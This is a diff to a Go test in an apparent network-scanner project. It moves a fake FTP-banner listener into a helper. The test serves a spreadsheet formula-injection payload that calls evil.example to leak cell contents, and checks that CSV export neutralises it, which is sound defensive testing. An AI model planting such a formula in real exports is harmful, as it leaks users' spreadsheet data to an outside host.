@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/scantron/scantron/activities"
+	"github.com/scantron/scantron/internal/targethost"
 	"github.com/scantron/scantron/scan"
 	"github.com/scantron/scantron/workflows"
 )
@@ -24,22 +25,10 @@ func TestCSVExportNeutralisesScannedBanner(t *testing.T) {
 	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"details")`
 	ctx := context.Background()
 	st := newStore(t)
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { ln.Close() })
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			_, _ = c.Write([]byte("220 vsFTPd " + formula + " ready...\r\n"))
-			c.Close()
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
+	port := targethost.Loopback(t, func(c net.Conn) {
+		_, _ = c.Write([]byte("220 vsFTPd " + formula + " ready...\r\n"))
+		c.Close()
+	})
 
 	site, err := st.CreateSite(ctx, scan.Site{Name: "hostile", Targets: []string{"127.0.0.1"}})
 	if err != nil {
